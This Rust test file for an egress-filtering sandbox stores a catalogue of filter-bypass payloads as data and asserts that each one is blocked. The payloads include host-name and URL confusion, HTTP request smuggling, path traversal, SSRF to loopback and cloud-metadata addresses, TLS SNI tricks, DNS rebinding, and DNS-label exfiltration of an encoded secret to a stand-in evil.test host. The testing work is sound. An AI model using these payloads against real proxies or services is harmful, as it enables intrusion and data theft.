//! Ways around the rules, as data. Where servers of this world would be fooled each has a control (the same bytes reach
//! their goal when nothing stands in between, or its owner reaches it), and a twin (the same shape, aimed at what is
//! allowed, works). What only a more lenient parser would take for another name has no control here.
//!
//! During all of them the host's packets are captured: no name is asked for and no connection begun but the allowed ones.

use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

use mantlet_egress::{Event, Reason};

use crate::internet::MARK;
use crate::space::{Jail, PROXY, World, talk};

const EGRESS: &str = r#"
allow = ["allowed.test", "allowed.test:80", "second.test", "second.test:80", "*.wild.test:80", "*.wild.test", "raw.test:5432",
  "private.test:80", "lan.test:80", "loop.test:8099", "loop6.test:80", "meta.test:80", "mapped.test:8099", "mappedmeta.test:80",
  "compat.test:8099", "nat64.test:8099", "nat64local.test:80", "sixtofour.test:80", "teredo.test:80", "isatap.test:80", "ula.test:80",
  "linklocal.test:80", "multicast.test:80", "broadcast.test:80", "zero.test:8099", "zero6.test:8099", "cgnat.test:80",
  "synthetic.test:80", "own.test:80", "mixed.test:80", "cname.test:80", "written.test:80"]
ports = { 8099 = "http" }
local = [{ name = "host.local-name", to = "127.0.0.1:8099" }, { name = "ours.local-name", to = "127.0.0.1:8098" }]
http = [{ host = "*.wild.test:80", methods = ["GET"], paths = ["/public/*"] }]
"#;

/// What reaches an attack's goal when nothing stands in between.
enum Control {
    /// These bytes, sent to this address from the host.
    Direct(&'static str, &'static str),
    /// None here: only a more lenient parser than any of this world would reach a goal.
    Parser,
}
use Control::{Direct, Parser};

/// Where an attack sends its bytes.
#[derive(Clone, Copy)]
enum To {
    /// The explicit proxy.
    Proxy,
    /// The address of a name, on a port.
    Name(&'static str, u16),
}

/// An attack on a name, a head or a handshake: number (of the list of known bypasses), bytes, twin.
type Case = (&'static str, To, &'static str, &'static str, Control);

const GET_EVIL: &str = "GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n";
const WEB: To = To::Name("allowed.test", 80);
const GOOD: &str = "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n";
const CONNECT_GOOD: &str = "CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n";
const ABSOLUTE: &str = "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n";
const SOCKS: &str = "\x05\x01\x00\x05\x01\x00\x03\x0callowed.test\x00\x50GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n";
const PUBLIC: &str = "GET /public/x HTTP/1.1\r\nHost: a.wild.test\r\nConnection: close\r\n\r\n";

macro_rules! connect {
    ($target:literal) => {
        concat!(
            "CONNECT ",
            $target,
            " HTTP/1.1\r\nHost: ",
            $target,
            "\r\n\r\nGET / HTTP/1.1\r\nHost: ",
            $target,
            "\r\n\r\n"
        )
    };
}
macro_rules! field {
    ($lines:literal) => {
        concat!("POST / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n", $lines, "\r\n")
    };
}
macro_rules! wild {
    ($line:literal) => {
        concat!($line, " HTTP/1.1\r\nHost: a.wild.test\r\nConnection: close\r\n\r\n")
    };
}
const EVIL: Control = Direct("151.101.1.2:80", GET_EVIL);

const CASES: &[Case] = &[
    ("1 suffix without a dot", To::Proxy, connect!("evil-allowed.test:80"), CONNECT_GOOD, Parser),
    ("2 allowed name as a prefix", To::Proxy, connect!("allowed.test.evil.test:80"), CONNECT_GOOD, Parser),
    ("3 another host", To::Proxy, connect!("evil.test:80"), CONNECT_GOOD, EVIL),
    ("5 two trailing dots", To::Proxy, connect!("allowed.test..:80"), CONNECT_GOOD, Parser),
    ("5 an empty label", To::Proxy, connect!("evil..allowed.test:80"), CONNECT_GOOD, Parser),
    ("6 the wildcard's own domain", To::Proxy, connect!("wild.test:80"), CONNECT_GOOD, Parser),
    ("7 a zone in an address", To::Proxy, connect!("[::ffff:151.101.1.2%x.wild.test]:80"), CONNECT_GOOD, Parser),
    ("10 a Cyrillic letter", To::Proxy, connect!("аllowed.test:80"), CONNECT_GOOD, Parser),
    ("12 a full-width dot", To::Proxy, connect!("evil.test。allowed.test:80"), CONNECT_GOOD, Parser),
    ("13 a soft hyphen", To::Proxy, connect!("allo\u{ad}wed.test:80"), CONNECT_GOOD, Parser),
    ("14 an escaped dot", To::Proxy, connect!("evil%2etest:80"), CONNECT_GOOD, Parser),
    ("15 a NUL in CONNECT", To::Proxy, connect!("evil.test\0.wild.test:80"), CONNECT_GOOD, Parser),
    ("16 a NUL in SOCKS", To::Proxy, "\x05\x01\x00\x05\x01\x00\x03\x13evil.test\0.wild.test\x00\x50", SOCKS, Parser),
    ("17 an escaped NUL", To::Proxy, connect!("evil.test%00.wild.test:80"), CONNECT_GOOD, Parser),
    ("18 a space", To::Proxy, connect!("evil.test .wild.test:80"), CONNECT_GOOD, Parser),
    ("18 a tab", To::Proxy, connect!("evil.test\t.wild.test:80"), CONNECT_GOOD, Parser),
    ("18 a line end", To::Proxy, connect!("evil.test\r\n.wild.test:80"), CONNECT_GOOD, Parser),
    (
        "19 user information",
        To::Proxy,
        "GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        ABSOLUTE,
        EVIL,
    ),
    (
        "19 a backslash before @",
        To::Proxy,
        "GET http://evil.test\\@allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        ABSOLUTE,
        EVIL,
    ),
    (
        "20 a backslash in the host",
        To::Proxy,
        "GET http://evil.test\\.allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        ABSOLUTE,
        EVIL,
    ),
    (
        "21 a fragment in the authority",
        To::Proxy,
        "GET http://evil.test#.allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        ABSOLUTE,
        EVIL,
    ),
    (
        "22 a label of 64 bytes",
        To::Proxy,
        connect!("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.wild.test:80"),
        CONNECT_GOOD,
        Parser,
    ),
    ("24 a port in the host", To::Proxy, connect!("evil.test:80.wild.test:80"), CONNECT_GOOD, Parser),
    ("25 port 0", To::Proxy, connect!("allowed.test:0"), CONNECT_GOOD, Parser),
    ("25 port 65536", To::Proxy, connect!("allowed.test:65616"), CONNECT_GOOD, Parser),
    ("25 a leading zero", To::Proxy, connect!("allowed.test:080"), CONNECT_GOOD, Parser),
    ("25 two ports", To::Proxy, connect!("allowed.test:80:80"), CONNECT_GOOD, Parser),
    (
        "26 IPv6 without brackets",
        To::Proxy,
        connect!("2606:4700::1111:80"),
        CONNECT_GOOD,
        Direct("[2606:4700::1111]:80", GET_EVIL),
    ),
    ("27 another port", To::Proxy, connect!("allowed.test:5432"), CONNECT_GOOD, Direct("9.9.9.9:5432", "x")),
    ("28 an address", To::Proxy, connect!("9.9.9.9:80"), CONNECT_GOOD, Direct("9.9.9.9:80", GOOD)),
    (
        "28 an address, SOCKS",
        To::Proxy,
        "\x05\x01\x00\x05\x01\x00\x01\x09\x09\x09\x09\x00\x50",
        SOCKS,
        Direct("9.9.9.9:80", GOOD),
    ),
    ("29 a decimal address", To::Proxy, connect!("2130706433:8099"), CONNECT_GOOD, Direct("127.0.0.1:8099", GET_EVIL)),
    ("30 an octal address", To::Proxy, connect!("0177.0.0.1:8099"), CONNECT_GOOD, Direct("127.0.0.1:8099", GET_EVIL)),
    ("31 a hexadecimal address", To::Proxy, connect!("0x7f.1:8099"), CONNECT_GOOD, Direct("127.0.0.1:8099", GET_EVIL)),
    ("32 a short address", To::Proxy, connect!("127.1:8099"), CONNECT_GOOD, Direct("127.0.0.1:8099", GET_EVIL)),
    (
        "36 a mapped address",
        To::Proxy,
        connect!("[::ffff:127.0.0.1]:8099"),
        CONNECT_GOOD,
        Direct("127.0.0.1:8099", GET_EVIL),
    ),
    ("49 a zone", To::Proxy, connect!("[fe80::1%25lo]:80"), CONNECT_GOOD, Parser),
    (
        "51 our own port",
        To::Name("ours.local-name", 8098),
        "GET / HTTP/1.1\r\nHost: ours.local-name:8098\r\n\r\n",
        "",
        Parser,
    ),
    (
        "59 CONNECT a, Host b",
        To::Proxy,
        "CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        CONNECT_GOOD,
        Direct("9.9.9.9:80", GET_EVIL),
    ),
    (
        "59 CONNECT and its own Host differ",
        To::Proxy,
        "CONNECT evil.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n",
        CONNECT_GOOD,
        EVIL,
    ),
    ("60 the address of a, Host b", WEB, GET_EVIL, GOOD, Direct("9.9.9.9:80", GET_EVIL)),
    (
        "60 the address of a, Host of another allowed one",
        WEB,
        "GET / HTTP/1.1\r\nHost: second.test\r\n\r\n",
        GOOD,
        Direct("9.9.9.9:80", GET_EVIL),
    ),
    (
        "65 CONNECT to 443 and no TLS",
        To::Proxy,
        "CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\nGET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        CONNECT_GOOD,
        Parser,
    ),
    ("65 443 and no TLS", To::Name("allowed.test", 443), "SSH-2.0-OpenSSH_9.9\r\n", "", Parser),
    (
        "66 URL and Host differ",
        To::Proxy,
        "GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        ABSOLUTE,
        EVIL,
    ),
    (
        "66 Host and URL differ",
        To::Proxy,
        "GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        ABSOLUTE,
        EVIL,
    ),
    (
        "67 no Host",
        WEB,
        "GET / HTTP/1.1\r\nConnection: close\r\n\r\n",
        GOOD,
        Direct("9.9.9.9:80", "GET / HTTP/1.1\r\n\r\n"),
    ),
    (
        "67 two Hosts",
        WEB,
        "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
        GOOD,
        Direct("9.9.9.9:80", "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"),
    ),
    ("69 length and chunks", WEB, field!("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"), GOOD, Parser),
    (
        "70 two lengths",
        WEB,
        field!("Content-Length: 0\r\nContent-Length: 5\r\n"),
        GOOD,
        Direct("9.9.9.9:80", field!("Content-Length: 0\r\nContent-Length: 5\r\n")),
    ),
    ("71 an unknown coding", WEB, field!("Transfer-Encoding: xchunked\r\n"), GOOD, Parser),
    ("71 two codings", WEB, field!("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n"), GOOD, Parser),
    (
        "71 a space before the colon",
        WEB,
        field!("Transfer-Encoding : chunked\r\n"),
        GOOD,
        Direct("9.9.9.9:80", field!("Transfer-Encoding : chunked\r\n")),
    ),
    ("72 a bare LF", WEB, "GET / HTTP/1.1\nHost: allowed.test\n\n", GOOD, Parser),
    ("72 a folded line", WEB, field!("X: a\r\n b\r\n"), GOOD, Direct("9.9.9.9:80", field!("X: a\r\n b\r\n"))),
    ("73 a chunk extension", WEB, field!("Transfer-Encoding: chunked\r\n\r\n1;x=y\r\na\r\n0\r\n"), GOOD, Parser),
    (
        "75 an upgrade to h2c",
        WEB,
        field!("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"),
        GOOD,
        Direct("9.9.9.9:80", field!("Upgrade: h2c\r\n")),
    ),
    ("76 HTTP/2 from the start", WEB, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", GOOD, Parser),
    (
        "78 a switch nobody asked for",
        WEB,
        "GET /unasked HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        GOOD,
        Direct("9.9.9.9:80", "GET /unasked HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    ),
    (
        "78 a response with two lengths",
        WEB,
        "GET /both HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        GOOD,
        Direct("9.9.9.9:80", "GET /both HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    ),
    (
        "80 TRACE",
        WEB,
        "TRACE / HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        GOOD,
        Direct("9.9.9.9:80", "TRACE / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
    ),
    (
        "81 dot segments",
        To::Name("a.wild.test", 80),
        wild!("GET /public/../admin"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("GET /public/../admin")),
    ),
    (
        "81 escaped dot segments",
        To::Name("a.wild.test", 80),
        wild!("GET /public/%2e%2e/admin"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("GET /public/%2e%2e/admin")),
    ),
    (
        "81 a parameter segment",
        To::Name("a.wild.test", 80),
        wild!("GET /public/..;/admin"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("GET /public/..;/admin")),
    ),
    (
        "82 an escaped slash",
        To::Name("a.wild.test", 80),
        wild!("GET /public/%2Fadmin"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("GET /public/%2Fadmin")),
    ),
    (
        "82 a doubly escaped slash",
        To::Name("a.wild.test", 80),
        wild!("GET /public/%252Fadmin"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("GET /public/%252Fadmin")),
    ),
    (
        "83 an escaped NUL",
        To::Name("a.wild.test", 80),
        wild!("GET /public/%00"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("GET /public/%00")),
    ),
    (
        "84 another method",
        To::Name("a.wild.test", 80),
        wild!("DELETE /public/x"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("DELETE /public/x")),
    ),
    (
        "84 a method in small letters",
        To::Name("a.wild.test", 80),
        wild!("get /public/x"),
        PUBLIC,
        Direct("9.9.9.9:80", wild!("get /public/x")),
    ),
    (
        "84 a method in a header",
        To::Name("a.wild.test", 80),
        "GET /public/x HTTP/1.1\r\nHost: a.wild.test\r\nX-HTTP-Method-Override: DELETE\r\n\r\n",
        PUBLIC,
        Direct("9.9.9.9:80", wild!("GET /public/x")),
    ),
    (
        "87 Connection takes a field away",
        WEB,
        "GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: authorization\r\nAuthorization: x\r\n\r\n",
        GOOD,
        Parser,
    ),
    (
        "88 an https URL",
        To::Proxy,
        "GET https://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        ABSOLUTE,
        Parser,
    ),
    ("104 CONNECT where no proxy is", WEB, connect!("evil.test:80"), GOOD, EVIL),
];

/// Names that are allowed and lead where no public name may: the name, the port, and where its owner finds a server.
const SPECIAL: &[(&str, u16, Option<&str>)] = &[
    ("private.test", 80, Some("10.1.2.3:80")),
    ("lan.test", 80, Some("192.168.77.1:80")),
    ("loop.test", 8099, Some("127.0.0.1:8099")),
    ("loop6.test", 80, None),
    ("meta.test", 80, Some("169.254.169.254:80")),
    ("mapped.test", 8099, Some("[::ffff:127.0.0.1]:8099")),
    ("mappedmeta.test", 80, Some("[::ffff:169.254.169.254]:80")),
    ("compat.test", 8099, None),
    ("nat64.test", 8099, None),
    ("nat64local.test", 80, None),
    ("sixtofour.test", 80, None),
    ("teredo.test", 80, None),
    ("isatap.test", 80, None),
    ("ula.test", 80, Some("[fd77::1]:80")),
    ("linklocal.test", 80, None),
    ("multicast.test", 80, None),
    ("broadcast.test", 80, None),
    ("zero.test", 8099, Some("0.0.0.0:8099")),
    ("zero6.test", 8099, None),
    ("cgnat.test", 80, None),
    ("synthetic.test", 80, None),
    ("own.test", 80, None),
    ("mixed.test", 80, Some("10.1.2.3:80")),
    ("cname.test", 80, Some("10.1.2.3:80")),
    ("written.test", 80, Some("10.1.2.3:80")),
];

pub(crate) fn run(world: &World) {
    let jail = world.jail("builder", EGRESS);
    world.packets.take();
    on_names_and_heads(world, &jail);
    on_handshakes(world, &jail);
    on_addresses(world, &jail);
    on_rebinding(world);
    on_look_ups(world, &jail);
    on_the_kernel(world, &jail);
    println!("{} cases", CASES.len() + SPECIAL.len() + 1 + LOOK_UPS.len() + HANDSHAKES.len() + 9);
}

fn has_mark(answer: &[u8]) -> bool {
    answer.windows(MARK.len()).any(|window| window == MARK.as_bytes())
}

fn goal(jail: &Jail, to: To) -> SocketAddr {
    match to {
        To::Proxy => SocketAddr::new([127, 0, 0, 1].into(), PROXY),
        To::Name(name, port) => SocketAddr::new(looked_up(jail, name), port),
    }
}

/// The address that the jail's own name server gives.
fn looked_up(jail: &Jail, name: &str) -> IpAddr {
    let answer = ask(jail, &query(name, 1));
    let octets: [u8; 4] = answer[answer.len() - 4..].try_into().unwrap();
    assert_eq!(answer[7], 1, "{name} has no address inside");
    octets.into()
}

pub(crate) fn query(name: &str, kind: u8) -> Vec<u8> {
    let mut bytes = vec![1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(u8::try_from(label.len()).unwrap());
        bytes.extend(label.bytes());
    }
    bytes.extend([0, 0, kind, 0, 1]);
    bytes
}

fn ask(jail: &Jail, query: &[u8]) -> Vec<u8> {
    jail.inside(|| {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        socket.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
        socket.send_to(query, "127.0.0.1:53").unwrap();
        let mut bytes = [0; 512];
        let count = socket.recv(&mut bytes).unwrap();
        bytes[..count].to_vec()
    })
}

/// Nothing but allowed names was asked for, and nothing but their addresses dialled.
fn only_allowed(world: &World, id: &str) {
    let seen = world.packets.take();
    let allowed_names = ["allowed.test", "second.test", "a.wild.test"];
    assert!(seen.names.iter().all(|name| allowed_names.contains(&name.as_str())), "{id}: {seen:?}");
    let allowed: [IpAddr; 4] =
        ["9.9.9.9", "2606:4700::1111", "151.101.1.1", "2a04:4e42::1"].map(|a| a.parse().unwrap());
    assert!(seen.connections.iter().all(|to| allowed.contains(&to.ip())), "{id}: {seen:?}");
    assert!(seen.others.is_empty(), "{id}: {seen:?}");
}

fn on_names_and_heads(world: &World, jail: &Jail) {
    for (id, to, attack, twin, control) in CASES {
        let address = goal(jail, *to);
        let answer = jail.talk(address, attack.as_bytes());
        assert!(!has_mark(&answer), "{id}: {}", String::from_utf8_lossy(&answer));
        assert!(!jail.events().is_empty(), "{id}: nothing was told");
        only_allowed(world, id);
        if !twin.is_empty() {
            let answer = jail.talk(address, twin.as_bytes());
            assert!(has_mark(&answer), "{id}, its twin: {}", String::from_utf8_lossy(&answer));
            only_allowed(world, id);
        }
        if let Direct(address, bytes) = control {
            let answer = talk(address.parse().unwrap(), bytes.as_bytes());
            let is_reached = has_mark(&answer) || answer.starts_with(b"HTTP/1.1 101");
            assert!(is_reached, "{id}, its control: {}", String::from_utf8_lossy(&answer));
            world.packets.take();
        }
    }
}

type Extensions = &'static [(u16, &'static [u8])];

const ALLOWED: &[u8] = b"\x00\x0f\x00\x00\x0callowed.test";
const EVIL_NAME: &[u8] = b"\x00\x0c\x00\x00\x09evil.test";

/// Handshakes at the address of an allowed name: their extensions, and the length of their records. What is refused here
/// has its twin in real clients.
const HANDSHAKES: &[(&str, Extensions, usize)] = &[
    ("60 another name", &[(0, EVIL_NAME)], 16000),
    ("62 no name", &[(43, b"\x02\x03\x04")], 16000),
    ("63 another name in small records", &[(0x0a0a, b""), (0, EVIL_NAME)], 11),
    ("63 two names", &[(0, ALLOWED), (0, EVIL_NAME)], 16000),
    ("63 two names in one list", &[(0, b"\x00\x1b\x00\x00\x0callowed.test\x00\x00\x09evil.test")], 16000),
    ("63 a NUL in the name", &[(0, b"\x00\x11\x00\x00\x0eallowed.test\0\0")], 16000),
    ("63 a byte in each record", &[(0, ALLOWED)], 1),
    ("64 an encrypted ClientHello", &[(0, ALLOWED), (0xfe0d, &[0; 32])], 16000),
    ("28 an address as a name", &[(0, b"\x00\x0a\x00\x00\x079.9.9.9")], 16000),
];

fn on_handshakes(world: &World, jail: &Jail) {
    let address = goal(jail, To::Name("allowed.test", 443));
    for (id, extensions, cut) in HANDSHAKES {
        let answer = jail.talk(address, &handshake(extensions, *cut));
        assert_eq!(answer, [21, 3, 3, 0, 2, 2, 49], "{id}: access_denied");
        let seen = world.packets.take();
        assert_eq!(seen, crate::packets::Seen::default(), "{id}");
    }
    // The twin: with the right name the server itself answers to these bytes, with an alert of its own.
    let answer = jail.talk(address, &handshake(&[(0, ALLOWED)], 16000));
    assert!(answer.first() == Some(&21) && !answer.ends_with(&[49]), "{answer:?}");
    assert_eq!(world.packets.take().connections.len(), 1);
}

fn handshake(extensions: Extensions, cut: usize) -> Vec<u8> {
    let mut list = Vec::new();
    for (kind, data) in extensions {
        list.extend(kind.to_be_bytes());
        list.extend(u16::try_from(data.len()).unwrap().to_be_bytes());
        list.extend(*data);
    }
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.extend([0, 0, 2, 0x13, 0x01, 1, 0]);
    body.extend(u16::try_from(list.len()).unwrap().to_be_bytes());
    body.extend(list);
    let mut message = vec![1, 0];
    message.extend(u16::try_from(body.len()).unwrap().to_be_bytes());
    message.extend(body);
    let mut bytes = Vec::new();
    for part in message.chunks(cut) {
        bytes.extend([22, 3, 1]);
        bytes.extend(u16::try_from(part.len()).unwrap().to_be_bytes());
        bytes.extend(part);
    }
    bytes
}

fn on_addresses(world: &World, jail: &Jail) {
    for (name, port, control) in SPECIAL {
        let request = format!("GET / HTTP/1.1\r\nHost: {name}:{port}\r\nConnection: close\r\n\r\n");
        let answer = jail.talk(goal(jail, To::Name(name, *port)), request.as_bytes());
        let text = String::from_utf8_lossy(&answer);
        assert!(text.starts_with("HTTP/1.1 403") && text.contains("it resolves to"), "{name}: {text}");
        // The name is allowed, so that it was asked for; nothing was dialled.
        let seen = world.packets.take();
        assert!(seen.connections.is_empty() && seen.others.is_empty(), "{name}: {seen:?}");
        if let Some(address) = control {
            assert!(has_mark(&talk(address.parse().unwrap(), GET_EVIL.as_bytes())), "{name}: its control");
            world.packets.take();
        }
    }
    // The twin of them all: the owner gave one such address a name.
    let request = "GET / HTTP/1.1\r\nHost: host.local-name:8099\r\nConnection: close\r\n\r\n";
    let answer = jail.talk(goal(jail, To::Name("host.local-name", 8099)), request.as_bytes());
    assert!(has_mark(&answer), "{}", String::from_utf8_lossy(&answer));
    world.packets.take();
}

/// A name that is public when it is asked for first, and private from then on. Another jail: this one counts answers.
fn on_rebinding(world: &World) {
    let jail = world.jail("builder", "allow = [\"rebind.test:80\"]");
    let request = b"GET / HTTP/1.1\r\nHost: rebind.test\r\nConnection: close\r\n\r\n";
    let address = goal(&jail, To::Name("rebind.test", 80));
    world.packets.take();
    assert!(has_mark(&jail.talk(address, request)), "the first answer is public");
    let seen = world.packets.take();
    assert_eq!(
        seen.names,
        ["rebind.test", "rebind.test"],
        "asked once for each family, and never again before dialling"
    );
    assert_eq!(seen.connections, ["9.9.9.9:80".parse().unwrap()]);
    let answer = jail.talk(address, request);
    assert!(String::from_utf8_lossy(&answer).contains("10.1.2.3, which is private use"), "the second is not");
    assert!(world.packets.take().connections.is_empty());
    // The control: who asks twice would have dialled it.
    assert!(has_mark(&talk("10.1.2.3:80".parse().unwrap(), GET_EVIL.as_bytes())));
    world.packets.take();
}

/// Names that carry something out, and record types that could.
const LOOK_UPS: &[(&str, u8)] = &[
    ("c2VjcmV0LWtleS1nb2VzLWhlcmU.evil.test", 1),
    ("c2VjcmV0LWtleS1nb2VzLWhlcmU.evil.test", 16),
    ("c2VjcmV0LWtleS1nb2VzLWhlcmU.allowed.test", 1),
    ("evil.test", 28),
    ("test", 2),
    ("allowed.test", 16),
    ("allowed.test", 65),
    ("allowed.test", 64),
    ("allowed.test", 255),
    ("allowed.test", 12),
];

fn on_look_ups(world: &World, jail: &Jail) {
    for (name, kind) in LOOK_UPS {
        let answer = ask(jail, &query(name, *kind));
        assert_eq!(answer[7], 0, "{name} {kind} has an answer");
        let told = jail
            .events()
            .iter()
            .any(|event| matches!(event, Event::Refused { denial, .. } if denial.reason == Reason::NoRule));
        assert!(told);
        let seen = world.packets.take();
        assert_eq!(seen, crate::packets::Seen::default(), "{name} {kind}");
    }
    // The control: the same look-up on the host is a packet. The twin: an allowed name has an address.
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.send_to(&query(LOOK_UPS[0].0, 1), "8.8.8.8:53").unwrap();
    assert_eq!(world.packets.take().names, [LOOK_UPS[0].0]);
    looked_up(jail, "allowed.test");
    // Over TCP it is the same stub.
    let stub: SocketAddr = "127.0.0.1:53".parse().unwrap();
    let over_tcp = |name: &str| {
        let query = query(name, 1);
        let length = u16::try_from(query.len()).unwrap().to_be_bytes();
        jail.talk(stub, &[&length, query.as_slice()].concat())
    };
    assert_eq!((over_tcp("allowed.test")[9], over_tcp(LOOK_UPS[0].0)[9]), (1, 0));
    assert_eq!(world.packets.take(), crate::packets::Seen::default());
}

/// What a jail's kernel refuses by itself: its network has nothing but the loopback.
fn on_the_kernel(world: &World, jail: &Jail) {
    let connects = |address: &str| {
        let address: SocketAddr = address.parse().unwrap();
        jail.inside(move || TcpStream::connect_timeout(&address, Duration::from_secs(2)).is_ok())
    };
    for address in
        ["151.101.1.2:80", "8.8.8.8:53", "9.9.9.9:853", "[2606:4700::1111]:443", "192.168.77.2:22", "10.1.2.3:80"]
    {
        assert!(!connects(address), "{address}");
    }
    let inside = looked_up(jail, "allowed.test");
    assert!(!connects(&format!("{inside}:22")), "another port of an address inside");
    assert!(connects(&format!("{inside}:443")), "the twin");
    let sends = |address: SocketAddr| {
        jail.inside(move || {
            let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
            socket.connect(address)?;
            socket.send(b"x")?;
            socket.set_read_timeout(Some(Duration::from_millis(300)))?;
            socket.recv(&mut [0; 10])
        })
    };
    assert!(sends("8.8.8.8:53".parse().unwrap()).is_err());
    let quic = sends(SocketAddr::new(inside, 443)).unwrap_err();
    assert_eq!(quic.kind(), std::io::ErrorKind::ConnectionRefused, "QUIC is told at once that there is none");
    only_allowed(world, "kernel");
    // The control: the host itself has a way.
    assert!(has_mark(&talk("151.101.1.2:80".parse().unwrap(), GET_EVIL.as_bytes())));
    world.packets.take();
}
